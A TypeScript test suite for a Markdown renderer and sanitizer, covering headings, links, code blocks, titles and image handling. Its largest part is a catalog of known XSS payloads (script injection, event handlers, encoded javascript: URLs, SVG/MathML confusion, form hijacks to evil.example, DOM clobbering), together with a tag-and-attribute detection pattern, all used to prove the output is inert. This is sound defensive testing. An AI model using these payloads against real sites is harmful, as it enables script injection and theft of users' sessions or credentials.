import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import {
  createMarkdownRenderer,
  renderSafeHtml,
  sanitizeContentHtml,
  splitTitle,
} from '../../src/modules/catalog/rendering/markdown.ts'

/** Every start tag of the output, as a browser would find it (text is escaped, so `<` there is always a tag). */
const startTags = (html: string) => html.match(/<[a-z][^>]*>/gi) ?? []

const ENTITY = /&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi
const decodeEntities = (value: string) =>
  value.replace(ENTITY, (whole, body: string) => {
    if (body[0] !== '#')
      return (
        ({ amp: '&', quot: '"', colon: ':', tab: '\t', newline: '\n' } as Record<string, string>)[body.toLowerCase()] ??
        whole
      )
    const code = body[1]?.toLowerCase() === 'x' ? parseInt(body.slice(2), 16) : parseInt(body.slice(1), 10)
    return String.fromCodePoint(code)
  })

/**
 * What "inert" means for a page: no element that runs or embeds code, no event handler, no style,
 * and every URL attribute (after entity decoding, without whitespace or control characters, as a
 * browser reads it) is http(s), mailto or relative.
 */
function assertInert(html: string, payload: string) {
  const why = `payload ${JSON.stringify(payload)} gave ${JSON.stringify(html)}`
  for (const tag of startTags(html)) {
    // Attribute values are always double-quoted in the output, with `"` escaped inside them:
    // text in a value (an alt text that mentions onerror=) is not an attribute.
    const names = tag.replace(/"[^"]*"/g, '""')
    assert.doesNotMatch(
      names,
      /^<(script|style|iframe|frame|svg|math|object|embed|applet|form|input|button|meta|base|link|template|textarea|noscript)\b/i,
      why,
    )
    assert.doesNotMatch(names, /\son[a-z]+\s*=/i, `event handler in ${tag}: ${why}`)
    assert.doesNotMatch(names, /\s(style|id|name|srcdoc|formaction|xlink:href|action)\s*=/i, `${tag}: ${why}`)
    for (const [, , quoted] of tag.matchAll(/\s(href|src)\s*=\s*"([^"]*)"/gi)) {
      // eslint-disable-next-line no-control-regex
      const url = decodeEntities(quoted ?? '').replace(/[\u0000-\u0020]/g, '')
      assert.match(url, /^(https?:\/\/|mailto:|\/(?!\/)|[.#?]|[^:/?#]+(?:[/?#]|$))/i, `URL ${url}: ${why}`)
    }
  }
}

/** The render the worker runs (render-worker.ts), called directly: these tests are about its output. */
const renderer = () => ({ render: renderSafeHtml, splitTitle })

describe('markdown rendering', () => {
  test('renders ordinary Markdown: headings, emphasis, lists, code, tables, links', () => {
    const html = renderer().render(
      '## Forms\n\nUse **labels** and *hints*.\n\n- one\n- two\n\n```html\n<label for="x">Name</label>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[MDN](https://developer.mozilla.org/) and [next](/courses/web/lessons/2)\n',
    )
    assert.match(html, /<h2>Forms<\/h2>/)
    assert.match(html, /<strong>labels<\/strong> and <em>hints<\/em>/)
    assert.match(html, /<ul>\s*<li>one<\/li>/)
    assert.match(
      html,
      /<pre tabindex="0" role="region" aria-label="Code example"><code class="language-html">&lt;label for="x"&gt;Name&lt;\/label&gt;/,
    )
    assert.match(html, /<table>[\s\S]*<td>1<\/td>/)
    assert.match(html, /<a href="https:\/\/developer.mozilla.org\/" rel="noopener noreferrer">MDN<\/a>/)
    assert.match(html, /<a href="\/courses\/web\/lessons\/2">next<\/a>/, 'relative links stay, without rel')
  })

  test('headings start below the page title: a `#` document shifts down whole, a `##` one stays', () => {
    const shifted = renderer().render('# Part\n\ntext\n\n## Detail\n\n###### Deepest\n\n<h1>raw</h1>')
    assert.match(shifted, /<h2>Part<\/h2>/)
    assert.match(shifted, /<h3>Detail<\/h3>/)
    assert.match(shifted, /<h6>Deepest<\/h6>/, 'h6 is as deep as HTML goes')
    assert.match(shifted, /<h2>raw<\/h2>/, 'raw HTML headings too')
    assert.doesNotMatch(shifted, /<h1/)
    const kept = renderer().render('## Section\n\n### Sub\n')
    assert.equal(kept, '<h2>Section</h2>\n<h3>Sub</h3>\n')
    // Text that looks like a tag is escaped text, never shifted.
    assert.match(renderer().render('## A\n\n`<h1>` and &lt;h1&gt;'), /<code>&lt;h1&gt;<\/code> and &lt;h1&gt;/)
  })

  test('a code block is a named, focusable region (reachable and scrollable by keyboard); authors cannot set those attributes', () => {
    const html = renderer().render('```\nx\n```\n\n<pre tabindex="-1" role="presentation" aria-label="evil">y</pre>')
    const blocks = html.match(/<pre[^>]*>/g) ?? []
    assert.deepEqual(blocks, [
      '<pre tabindex="0" role="region" aria-label="Code example">',
      '<pre tabindex="0" role="region" aria-label="Code example">',
    ])
  })

  test('external links get rel="noopener noreferrer", replacing whatever rel the author wrote', () => {
    const html = renderer().render('<a href="https://example.org" rel="opener" target="_blank">x</a>')
    assert.equal(html, '<p><a href="https://example.org" rel="noopener noreferrer">x</a></p>\n')
  })

  test('safe inline HTML authors use stays: kbd, details/summary, abbr', () => {
    const html = renderer().render('Press <kbd>Tab</kbd>.\n\n<details><summary>Answer</summary>\n\n42\n\n</details>\n')
    assert.match(html, /<kbd>Tab<\/kbd>/)
    assert.match(html, /<details><summary>Answer<\/summary>/)
  })

  test('code blocks show markup as text', () => {
    const html = renderer().render('```\n<script>alert(1)</script>\n```\n\nInline `<img onerror=x>` too.')
    assert.match(html, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/)
    assert.match(html, /<code>&lt;img onerror=x&gt;<\/code>/)
    assertInert(html, 'code')
  })

  test('an unknown code language class is refused; a language-* class is kept', () => {
    assert.equal(sanitizeContentHtml('<code class="language-css evil">x</code>'), '<code class="language-css">x</code>')
    assert.equal(sanitizeContentHtml('<code class="hijack">x</code>'), '<code>x</code>')
  })

  test("the renderer gives the worker's sanitized HTML; the same source the same HTML (cached), a changed source anew", async () => {
    const md = createMarkdownRenderer()
    try {
      const payload = '# One\n\n<a href="javascript:alert(1)" onclick="x()">x</a><script>alert(1)</script>'
      const first = await md.render(payload)
      assert.equal(first, renderSafeHtml(payload))
      assert.equal(first, '<h2>One</h2>\n<p><a>x</a></p>\n')
      assert.equal(await md.render(payload), first)
      assert.equal(await md.render('# Two'), '<h2>Two</h2>\n')
    } finally {
      await md.close()
    }
  })
})

describe('markdown sanitizing: known XSS payloads are inert', () => {
  const payloads: Array<[name: string, markdown: string, expected?: string]> = [
    ['script element', '<script>alert(1)</script>', ''],
    ['script in a paragraph', 'Hello <script>alert(1)</script> world', '<p>Hello  world</p>\n'],
    ['unclosed script', 'Intro\n\n<script>alert(1)'],
    ['split script tag', '<scr<script>ipt>alert(1)</script>'],
    ['upper-case script', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
    ['img onerror', '<img src=x onerror=alert(1)>', ''],
    ['img onerror, quoted', '<img src="x" onerror="alert(1)">', ''],
    [
      'img onerror on a media image',
      '<img src="/media/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.png" onerror="alert(1)">',
      '<img src="/media/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.png" />',
    ],
    ['img javascript src', '<IMG SRC=JaVaScRiPt:alert(1)>', ''],
    ['img with no quotes around the handler', '<img src=x onerror=alert(1)//>'],
    ['markdown javascript link', '[x](javascript:alert(1))', '<p><a>x</a></p>\n'],
    ['mixed-case javascript href', '<a href="JaVaScRiPt:alert(1)">x</a>', '<p><a>x</a></p>\n'],
    ['entity-encoded colon, markdown', '[x](javascript&#58;alert(1))', '<p><a>x</a></p>\n'],
    ['entity-encoded colon, HTML', '<a href="javascript&#58;alert(1)">x</a>', '<p><a>x</a></p>\n'],
    ['entity-encoded colon, named', '<a href="javascript&colon;alert(1)">x</a>', '<p><a>x</a></p>\n'],
    [
      'fully entity-encoded scheme',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
      '<p><a>x</a></p>\n',
    ],
    [
      'hex entities without semicolons',
      '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    ],
    ['tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>', '<p><a>x</a></p>\n'],
    ['encoded tab inside the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<p><a>x</a></p>\n'],
    ['leading space and control character', '<a href=" \x01javascript:alert(1)">x</a>'],
    ['vbscript and file links', '<a href="vbscript:msgbox(1)">v</a> <a href="file:///etc/passwd">f</a>'],
    ['data: text/html link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '<p><a>x</a></p>\n'],
    ['data: HTML href', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<p><a>x</a></p>\n'],
    // A Markdown image from elsewhere is a link; this one's href is refused.
    ['data: image', '![x](data:image/png;base64,iVBORw0KGgo=)', '<p><a>x</a></p>\n'],
    ['data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', ''],
    ['protocol-relative link', '<a href="//evil.example">x</a>', '<p><a>x</a></p>\n'],
    ['foreign iframe', '<iframe src="//evil.example"></iframe>', ''],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
    ['javascript iframe', '<iframe src="javascript:alert(1)">fallback</iframe>', ''],
    ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
    ['svg onload', '<svg onload=alert(1)>', ''],
    ['svg with script inside', '<svg><script>alert(1)</script></svg>'],
    [
      'svg animate href',
      '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>',
    ],
    ['math namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['math xlink href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    ['noscript confusion', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['comment confusion', '<!--<img src="--><img src=x onerror=alert(1)//">'],
    ['style element', '<style>body{display:none}</style>', ''],
    ['style attribute', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>', '<p>x</p>'],
    [
      'event handler beside safe attributes',
      '<a href="x" title="t" onclick="alert(1)">x</a>',
      '<p><a href="x" title="t">x</a></p>\n',
    ],
    [
      'ontoggle on details',
      '<details open ontoggle=alert(1)><summary>s</summary></details>',
      '<details><summary>s</summary></details>',
    ],
    ['attribute breaking out of quotes', '<a title="x" onmouseover="alert(1)" href="#">x</a>'],
    ['quote break-out in markdown title', '[x](https://example.org "a\\" onmouseover=\\"alert(1)")'],
    ['quote break-out in markdown alt text', '![a" onerror="alert(1)](https://example.org/i.png)'],
    ['quote break-out in markdown url', '[x](https://example.org/"onmouseover="alert(1))'],
    ['backtick attribute', '<img src=`x` onerror=`alert(1)`>'],
    [
      'form hijack',
      '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>go</button></form>',
    ],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', ''],
    ['base href', '<base href="https://evil.example/">', ''],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">', ''],
    [
      'id and name clobbering',
      '<img name="getElementById" id="csrf_token" src="/media/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.png">',
      '<img src="/media/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.png" />',
    ],
    ['template', '<template><img src=x onerror=alert(1)></template>'],
    ['autolink with javascript', '<javascript:alert(1)>'],
  ]

  for (const [name, markdown, expected] of payloads) {
    test(name, () => {
      const html = renderer().render(markdown)
      assertInert(html, markdown)
      if (expected !== undefined) assert.equal(html, expected)
      // Sanitizing the output again changes nothing: no parser round-trip turns it into markup.
      assert.equal(sanitizeContentHtml(html), html)
    })
  }

  test('the inertness check itself catches each kind of leak', () => {
    for (const leak of [
      '<script>x</script>',
      '<img src="x" onerror="y">',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<img src="data:image/png;base64,AA">',
      '<iframe src="https://evil.example">',
      '<p style="x">',
      '<a href="//evil.example">',
    ]) {
      assert.throws(() => assertInert(leak, leak), assert.AssertionError, leak)
    }
  })
})

describe('titles', () => {
  test('the first # heading is the title, removed from the body when it opens the document', () => {
    assert.deepEqual(renderer().splitTitle('# What HTML is for\n\nStructure.\n'), {
      title: 'What HTML is for',
      body: 'Structure.\n',
    })
  })

  test('a setext heading counts too', () => {
    assert.deepEqual(renderer().splitTitle('Colours\n=======\n\nBody'), { title: 'Colours', body: 'Body' })
  })

  test('a later heading is the title but the body stays whole', () => {
    const source = 'An opening line.\n\n# The title\n\nMore.\n'
    assert.deepEqual(renderer().splitTitle(source), { title: 'The title', body: source })
  })

  test('a title is plain text: inline markup and HTML are dropped, entities decoded', () => {
    assert.equal(
      renderer().splitTitle('# Tags <script>alert(1)</script> &amp; *emphasis* `code`').title,
      'Tags alert(1) & emphasis code',
    )
  })

  test('no # heading, no title', () => {
    assert.deepEqual(renderer().splitTitle('## Only a subheading\n'), { title: null, body: '## Only a subheading\n' })
  })
})

describe("markdown images: only the site's own media are images (CONTRACT §12)", () => {
  const media = `/media/${'0'.repeat(64)}.png`

  test('a media image stays an image with its alt text', () => {
    const md = renderer()
    {
      assert.equal(md.render(`![A diagram](${media})`), `<p><img src="${media}" alt="A diagram" /></p>\n`)
    }
  })

  test('an image from another site is a link to it, its alt text the words', () => {
    const md = renderer()
    {
      const html = md.render('![The flow](https://cdn.example/flow.png "t")')
      assert.equal(html, '<p><a href="https://cdn.example/flow.png" rel="noopener noreferrer">The flow</a></p>\n')
      assert.doesNotMatch(html, /<img/)
      const bare = md.render('![](http://cdn.example/x.png)')
      assert.equal(
        bare,
        '<p><a href="http://cdn.example/x.png" rel="noopener noreferrer">http://cdn.example/x.png</a></p>\n',
      )
    }
  })

  test('raw <img> from another site, or a relative path, is dropped', () => {
    const md = renderer()
    {
      assert.equal(md.render('<img src="https://cdn.example/x.png" alt="x">'), '')
      assert.equal(md.render('<img src="images/x.png" alt="x">'), '')
      assert.equal(md.render(`<img src="${media}?x" alt="x">`), '')
      assert.equal(md.render(`<img src="https://evil.example${media}" alt="x">`), '')
    }
  })
})
